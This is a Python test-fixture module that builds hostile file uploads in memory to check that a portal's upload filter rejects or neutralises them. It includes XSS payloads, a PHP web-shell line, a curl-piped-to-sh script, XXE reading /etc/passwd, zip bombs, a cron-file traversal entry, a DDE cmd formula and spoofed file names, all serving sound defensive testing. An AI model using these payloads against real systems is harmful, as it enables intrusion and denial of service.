"""Hostile uploads, built in memory when a test asks for them (no binary file is kept).

Each file is either REJECTED (the upload is refused with a message that says why) or
NEUTRALISED (accepted as the type its content really is, under a cleaned name, and only ever
served as an attachment). Large files are built on demand and the costly ones once.
"""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache

from reporting.evidence import MAX_ARCHIVE_MEMBERS, MAX_EVIDENCE_BYTES

REJECTED = "rejected"
NEUTRALISED = "neutralised"

# What the messages say, as patterns over the English text.
NOT_ACCEPTED = "This type of file is not accepted"
DAMAGED = "damaged and cannot be opened"
TOO_BIG_OPENED = "expands to an unreasonable size"
MACROS = "macros or scripts"
PASSWORD = "protected by a password"
NESTED = "other compressed files"
EMPTY = "empty"
# A name of only `..` makes Django drop the file before any check: the field is then missing.
NO_FILE = "required|No file was submitted"

DATE = (2028, 1, 1, 0, 0, 0)


@dataclass(frozen=True)
class HostileFile:
    key: str
    name: str
    description: str
    outcome: str
    build: Callable[[], bytes]
    # What the browser claims; the portal never believes it.
    content_type: str = "application/octet-stream"
    # REJECTED: a pattern of the message the user gets.
    reason: str = ""
    # NEUTRALISED: the detected extension, and the cleaned name when it is worth pinning.
    stored_as: str = ""
    stored_name: str = ""

    @property
    def data(self) -> bytes:
        return self.build()


# --- building blocks -------------------------------------------------------------------------


def pdf(body: bytes = b"") -> bytes:
    """A small, well-formed PDF with `body` among its objects."""
    return (
        b"%PDF-1.4\n"
        b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
        + body
        + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*chunks: bytes, after: bytes = b"") -> bytes:
    """A 1x1 PNG with extra chunks before its pixels and `after` past its end."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + b"".join(chunks)
        + png_chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + png_chunk(b"IEND", b"")
        + after
    )


def jpeg(after: bytes = b"") -> bytes:
    """A JPEG's markers (start, JFIF, comment, end), then `after`."""
    jfif = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + jfif + b"\xff\xfe\x00\x0aevidence" + b"\xff\xd9" + after


def zip_of(members: Iterable[tuple[str, bytes]]) -> bytes:
    """A zip of the members in this order, names as given (`..`, `/` and twice included)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a name given twice
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in members:
                archive.writestr(zipfile.ZipInfo(name, DATE), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{extra}</Types>'
)
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Referral pathways</w:t></w:r></w:p></w:body></w:document>"
)


def content_types(main: str = WORD_MAIN, extra: str = "") -> bytes:
    override = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
    return CONTENT_TYPES.format(extra=override + extra).encode()


def docx(*extra: tuple[str, bytes], document: bytes = DOCUMENT, types: bytes = b"") -> bytes:
    """A Word document: its content types first and its body second, as Word writes them."""
    return zip_of(
        [
            ("[Content_Types].xml", types or content_types()),
            ("word/document.xml", document),
            ("_rels/.rels", RELS),
            *extra,
        ]
    )


def xlsx(*extra: tuple[str, bytes]) -> bytes:
    return zip_of(
        [
            ("[Content_Types].xml", CONTENT_TYPES.format(extra="").encode()),
            ("xl/workbook.xml", b"<workbook/>"),
            ("_rels/.rels", RELS.replace(b"word/document.xml", b"xl/workbook.xml")),
            *extra,
        ]
    )


def odt(*extra: tuple[str, bytes], mimetype: bytes = b"application/vnd.oasis.opendocument.text"):
    """An OpenDocument text: `mimetype` first and stored, as the standard requires."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", mimetype, zipfile.ZIP_STORED)
        archive.writestr("content.xml", b"<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", b"<manifest:manifest/>")
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def patch_member(data: bytes, name: str, *, flags: int = 0, claimed_size: int = 0) -> bytes:
    """Rewrite one member's headers, as a hand-made archive would: set flag bits, or claim
    another expanded size in the central directory."""
    patched = bytearray(data)
    encoded = name.encode()
    # (signature, offset of the flags, of the expanded size, of the name length, of the name)
    for signature, at_flags, at_size, at_length, at_name in (
        (b"PK\x03\x04", 6, 22, 26, 30),
        (b"PK\x01\x02", 8, 24, 28, 46),
    ):
        start = patched.find(signature)
        while start != -1:
            (length,) = struct.unpack_from("<H", patched, start + at_length)
            if patched[start + at_name : start + at_name + length] == encoded:
                (current,) = struct.unpack_from("<H", patched, start + at_flags)
                struct.pack_into("<H", patched, start + at_flags, current | flags)
                if claimed_size and signature == b"PK\x01\x02":
                    struct.pack_into("<I", patched, start + at_size, claimed_size)
            start = patched.find(signature, start + 4)
    return bytes(patched)


def rename_in_directory(data: bytes, name: str, other: str) -> bytes:
    """Give a member another name in the central directory only (it comes last)."""
    at = data.rfind(name.encode())
    return data[:at] + other.encode() + data[at + len(name) :]


# --- the files -------------------------------------------------------------------------------


HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)
SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
XHTML = (
    b'<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml">'
    b"<body><script>alert(1)</script></body></html>"
)
PHP = b"<?php system($_GET['cmd']); ?>"
# The antivirus test string, joined here so that this source file is not itself flagged.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
WINDOWS_EXE += struct.pack("<I", 64) + b"PE\x00\x00\x4c\x01" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
SHELL = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    + DOCUMENT.replace(b"Referral pathways", b"&xxe;")
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + b"".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">'.encode() for n in range(1, 10))
    + b"]>"
    + DOCUMENT.replace(b"Referral pathways", b"&lol9;")
)
# A Word 97 document's start (compound file, then the Word header), with a VBA project stream.
WORD_97_WITH_MACROS = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + b"\x00" * 504
    + b"\xec\xa5\xc1\x00"
    + b"\x00" * 508
    + "_VBA_PROJECT".encode("utf-16-le")
    + b"\x00" * 1000
)
COMPOUND_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


@cache
def jar() -> bytes:
    return zip_of([("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), ("Evil.class", b"\xca\xfe")])


@cache
def gif_with_jar() -> bytes:
    gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x00;"
    return gif + jar()


def zeros_member(archive: zipfile.ZipFile, name: str, megabytes: int) -> None:
    info = zipfile.ZipInfo(name, DATE)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w") as part:
        chunk = b"\x00" * 2**20
        for _ in range(megabytes):
            part.write(chunk)


@cache
def zip_bomb() -> bytes:
    """A plain zip of 30 kB opening to 30 MB (refused for its type before it is opened)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(3):
            zeros_member(archive, f"{number}.txt", 10)
    return buffer.getvalue()


@cache
def docx_bomb() -> bytes:
    """Shaped as a Word document, opening to more than the limit (200 MB)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types())
        zeros_member(archive, "word/document.xml", 201)
    return buffer.getvalue()


@cache
def xlsx_ratio_bomb() -> bytes:
    """Under the size limit, but one part expands a thousand times."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(extra=""))
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        zeros_member(archive, "xl/worksheets/sheet1.xml", 30)
    return buffer.getvalue()


@cache
def docx_too_many_parts() -> bytes:
    return docx(*((f"word/media/p{number}.xml", b"") for number in range(MAX_ARCHIVE_MEMBERS + 1)))


def over_the_cap() -> bytes:
    """One byte over the limit: built when asked and never kept."""
    start = pdf()
    return start + b"0" * (MAX_EVIDENCE_BYTES + 1 - len(start))


def rejected(key, name, description, build, reason, **extra) -> HostileFile:
    return HostileFile(key, name, description, REJECTED, build, reason=reason, **extra)


def neutralised(key, name, description, build, stored_as, stored_name="", **extra):
    return HostileFile(
        key,
        name,
        description,
        NEUTRALISED,
        build,
        stored_as=stored_as,
        stored_name=stored_name,
        **extra,
    )


CORPUS: list[HostileFile] = [
    # Polyglots: one file, read differently by different programs.
    neutralised(
        "pdf-html-polyglot",
        "report.pdf",
        "a PDF that is also an HTML page with a script",
        lambda: pdf(HTML_PAGE),
        "pdf",
        "report.pdf",
    ),
    rejected(
        "pdf-javascript-action",
        "report.pdf",
        "a PDF running JavaScript when opened",
        lambda: pdf(b"3 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj"),
        MACROS,
    ),
    rejected(
        "pdf-javascript-escaped",
        "report.pdf",
        "a PDF with a JavaScript action spelled with #hex escapes",
        lambda: pdf(b"3 0 obj << /S /J#61va#53cript /JS (app.alert(1)) >> endobj"),
        MACROS,
    ),
    rejected(
        "pdf-launch-action",
        "report.pdf",
        "a PDF that launches a program",
        lambda: pdf(b"3 0 obj << /S /Launch /Win << /F (cmd.exe) >> >> endobj"),
        MACROS,
    ),
    rejected(
        "javascript-pdf-polyglot",
        "slides.pdf",
        "JavaScript with a PDF inside a comment (readers find the header later on)",
        lambda: b"/*" + pdf() + b"*/ alert(document.domain);",
        NOT_ACCEPTED,
    ),
    rejected(
        "pdf-after-byte-order-mark",
        "report.pdf",
        "a PDF header after a UTF-8 byte-order mark, text to other programs",
        lambda: b"\xef\xbb\xbf" + pdf(),
        NOT_ACCEPTED,
    ),
    rejected(
        "gifar",
        "photo.jpg",
        "a GIF image with a Java archive appended",
        gif_with_jar,
        NOT_ACCEPTED,
    ),
    neutralised(
        "png-with-jar",
        "chart.png",
        "a PNG image with a Java archive appended",
        lambda: png(after=jar()),
        "png",
        "chart.png",
    ),
    neutralised(
        "jpeg-with-php",
        "photo.php.jpg",
        "a JPEG image with PHP code appended",
        lambda: jpeg(after=PHP),
        "jpg",
        "photo.php.jpg",
    ),
    neutralised(
        "jpeg-with-html",
        "photo.html",
        "a JPEG image with an HTML page appended, named .html",
        lambda: jpeg(after=HTML_PAGE),
        "jpg",
        "photo.jpg",
    ),
    neutralised(
        "png-script-chunk",
        "map.png",
        "a PNG image with a script in a text chunk",
        lambda: png(png_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")),
        "png",
        "map.png",
    ),
    # Wrong magic bytes: the name says one thing, the content another.
    rejected(
        "pdf-that-is-text",
        "annual-report.pdf",
        "plain text named .pdf",
        lambda: b"Annual report 2027: not a PDF at all.\n",
        NOT_ACCEPTED,
    ),
    rejected(
        "docx-that-is-plain-zip",
        "minutes.docx",
        "a plain zip without Office parts, named .docx",
        lambda: zip_of([("minutes.txt", b"Minutes")]),
        NOT_ACCEPTED,
    ),
    rejected(
        "docx-directory-disagrees",
        "minutes.docx",
        "a docx whose zip directory names other parts than its entries",
        lambda: rename_in_directory(docx(), "word/document.xml", "wxrd/document.xml"),
        f"{DAMAGED}|{NOT_ACCEPTED}",
    ),
    rejected(
        "xlsx-that-is-html",
        "budget.xlsx",
        "an HTML table named .xlsx",
        lambda: b"<html><table><tr><td>=cmd|' /C calc'!A0</td></tr></table></html>",
        NOT_ACCEPTED,
    ),
    rejected(
        "html-as-docx", "report.docx", "an HTML page named .docx", lambda: HTML_PAGE, NOT_ACCEPTED
    ),
    rejected("xhtml", "report.xhtml", "an XHTML page with a script", lambda: XHTML, NOT_ACCEPTED),
    rejected(
        "svg-script", "logo.svg", "an SVG image with a script", lambda: SVG_SCRIPT, NOT_ACCEPTED
    ),
    rejected(
        "svg-onload",
        "logo.svg",
        "an SVG image with an onload handler",
        lambda: SVG_ONLOAD,
        NOT_ACCEPTED,
    ),
    rejected(
        "svg-as-png",
        "chart.png",
        "an SVG image with a script, named .png",
        lambda: SVG_SCRIPT,
        NOT_ACCEPTED,
    ),
    rejected(
        "exe-as-pdf",
        "report.pdf",
        "a Windows program named .pdf",
        lambda: WINDOWS_EXE,
        NOT_ACCEPTED,
    ),
    rejected("elf-as-xlsx", "data.xlsx", "a Linux program named .xlsx", lambda: ELF, NOT_ACCEPTED),
    rejected(
        "shell-script", "notes.docx", "a shell script named .docx", lambda: SHELL, NOT_ACCEPTED
    ),
    rejected(
        "eicar", "scan.pdf", "the antivirus test file named .pdf", lambda: EICAR, NOT_ACCEPTED
    ),
    rejected(
        "compound-file-not-office",
        "report.doc",
        "a compound file that is not a Word document",
        lambda: COMPOUND_FILE,
        NOT_ACCEPTED,
    ),
    rejected(
        "mime-confused-html",
        "report.pdf",
        "an HTML page sent as application/pdf",
        lambda: HTML_PAGE,
        NOT_ACCEPTED,
        content_type="application/pdf",
    ),
    neutralised(
        "mime-confused-png",
        "chart.html",
        "a PNG image sent as text/html and named .html",
        png,
        "png",
        "chart.png",
        content_type="text/html",
    ),
    # Archives: bombs, nesting, traversal, encryption, macros.
    rejected(
        "zip-bomb",
        "evidence.docx",
        "a plain zip bomb, opening a thousand times larger",
        zip_bomb,
        NOT_ACCEPTED,
    ),
    rejected(
        "docx-bomb",
        "report.docx",
        "a Word-shaped zip opening beyond the limit",
        docx_bomb,
        TOO_BIG_OPENED,
    ),
    rejected(
        "docx-claims-4-gb",
        "report.docx",
        "a docx whose directory claims a 4 GB part",
        lambda: patch_member(docx(), "word/document.xml", claimed_size=0xFFFFFFF0),
        TOO_BIG_OPENED,
    ),
    rejected(
        "xlsx-ratio-bomb",
        "budget.xlsx",
        "a workbook under the limit with a part expanding a thousand times",
        xlsx_ratio_bomb,
        TOO_BIG_OPENED,
    ),
    rejected(
        "docx-too-many-parts",
        "report.docx",
        "a docx with more than 5,000 parts",
        docx_too_many_parts,
        TOO_BIG_OPENED,
    ),
    rejected(
        "docx-nested-zip",
        "report.docx",
        "a docx holding a zip (named as an image) holding a zip",
        lambda: docx(("word/media/image1.png", zip_of([("inner.zip", jar())]))),
        NESTED,
    ),
    rejected(
        "docx-embedded-workbook-nesting",
        "report.docx",
        "a chart's embedded workbook that itself holds a zip",
        lambda: docx(
            ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx(("xl/a.bin", jar())))
        ),
        NESTED,
    ),
    rejected(
        "docx-member-traversal",
        "report.docx",
        "a docx with a part named ../../etc/passwd",
        lambda: docx(("../../etc/passwd", b"root::0:0::/:/bin/sh\n")),
        DAMAGED,
    ),
    rejected(
        "docx-member-absolute",
        "report.docx",
        "a docx with a part named /etc/cron.d/portal",
        lambda: docx(("/etc/cron.d/portal", b"* * * * * root sh\n")),
        DAMAGED,
    ),
    rejected(
        "docx-member-twice",
        "report.docx",
        "a docx naming its body twice (readers disagree on which one counts)",
        lambda: docx(("word/document.xml", DOCUMENT.replace(b"Referral", b"Other"))),
        DAMAGED,
    ),
    rejected(
        "docx-encrypted-part",
        "report.docx",
        "a docx whose body is encrypted with a zip password",
        lambda: patch_member(docx(), "word/document.xml", flags=0x1),
        PASSWORD,
    ),
    rejected(
        "docm-as-docx",
        "report.docx",
        "a macro-enabled document (vbaProject.bin) named .docx",
        lambda: docx(
            ("word/vbaProject.bin", COMPOUND_FILE),
            types=content_types(
                "application/vnd.ms-word.document.macroEnabled.main+xml",
                '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            ),
        ),
        MACROS,
    ),
    rejected(
        "docx-macros-renamed-part",
        "report.docx",
        "a docx whose VBA project sits under another part name",
        lambda: docx(
            ("word/settingsData.bin", COMPOUND_FILE),
            types=content_types(
                extra='<Override PartName="/word/settingsData.bin" '
                'ContentType="application/vnd.ms-office.vbaProject"/>'
            ),
        ),
        MACROS,
    ),
    rejected(
        "xlsx-excel-4-macros",
        "budget.xlsx",
        "a workbook with an Excel 4 macro sheet",
        lambda: xlsx(("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")),
        MACROS,
    ),
    rejected(
        "odt-basic-macros",
        "report.odt",
        "an OpenDocument text with a Basic macro",
        lambda: odt(("Basic/Standard/Module1.xml", b"<script:module/>")),
        MACROS,
    ),
    rejected(
        "doc-with-vba",
        "report.doc",
        "a Word 97-2003 document with a VBA project",
        lambda: WORD_97_WITH_MACROS,
        MACROS,
    ),
    rejected(
        "odt-wrong-mimetype",
        "report.odt",
        "an OpenDocument whose mimetype is not the one it passes for",
        lambda: odt(mimetype=b"application/vnd.oasis.opendocument.text-web"),
        NOT_ACCEPTED,
    ),
    neutralised(
        "docx-xxe",
        "report.docx",
        "a docx whose body declares an external entity reading /etc/passwd",
        lambda: docx(document=XXE),
        "docx",
        "report.docx",
    ),
    neutralised(
        "docx-billion-laughs",
        "report.docx",
        "a docx whose body expands entities a billion times if parsed",
        lambda: docx(document=LAUGHS),
        "docx",
        "report.docx",
    ),
    # Size.
    rejected("zero-bytes", "empty.pdf", "an empty file", lambda: b"", EMPTY),
    rejected(
        "one-byte-over",
        "scan.pdf",
        "a PDF one byte over 20 MB",
        over_the_cap,
        "larger than 20 MB",
    ),
    # Names: the content is fine, the name is not.
    neutralised(
        "name-traversal",
        "../../etc/passwd.pdf",
        "a name climbing out of the folder",
        pdf,
        "pdf",
        "passwd.pdf",
    ),
    neutralised(
        "name-windows-traversal",
        "..\\..\\windows\\system32.pdf",
        "a name climbing out with Windows separators",
        pdf,
        "pdf",
        "system32.pdf",
    ),
    neutralised(
        "name-absolute",
        "/etc/passwd.pdf",
        "an absolute path",
        pdf,
        "pdf",
        "passwd.pdf",
    ),
    neutralised(
        "name-traversal-entities",
        "&#46;&#46;&#47;&#46;&#46;&#47;passwd.pdf",
        "a climbing name spelled as HTML entities",
        pdf,
        "pdf",
        "passwd.pdf",
    ),
    rejected(
        "name-right-to-left-exe",
        "report\u202efdp.exe",
        "a program whose name shows as reportexe.pdf",
        lambda: WINDOWS_EXE,
        NOT_ACCEPTED,
    ),
    neutralised(
        "name-right-to-left-pdf",
        "report\u202efdp.exe",
        "a PDF whose name ends in .exe behind a right-to-left override",
        pdf,
        "pdf",
        "reportfdp.pdf",
    ),
    neutralised(
        "name-right-to-left-docx",
        "invoice\u202excod.pdf",
        "a Word document whose name shows as invoicefdp.docx",
        docx,
        "docx",
        "invoicexcod.docx",
    ),
    neutralised(
        "name-controls",
        "report\x00\x07\x08\x1b[2J\u200b.pdf",
        "a name with NUL, bell, escape and zero-width characters",
        pdf,
        "pdf",
        "report_2J.pdf",
    ),
    neutralised(
        "name-500-chars",
        "a" * 496 + ".pdf",
        "a 500-character name",
        pdf,
        "pdf",
        "a" * 120 + ".pdf",
    ),
    neutralised("name-only-dots", ".....", "a name of dots only", pdf, "pdf", "evidence.pdf"),
    rejected(
        "name-two-dots",
        "..",
        "the parent folder's name (Django drops such a file)",
        pdf,
        NO_FILE,
    ),
    neutralised("name-con", "CON.pdf", "a reserved Windows device name", pdf, "pdf", "_CON.pdf"),
    neutralised(
        "name-nul",
        "NUL.docx",
        "another reserved Windows device name",
        docx,
        "docx",
        "_NUL.docx",
    ),
    neutralised(
        "name-markup",
        '"><img src=x onerror=alert(1)>.pdf',
        "a name that is an HTML tag with a script",
        pdf,
        "pdf",
    ),
]
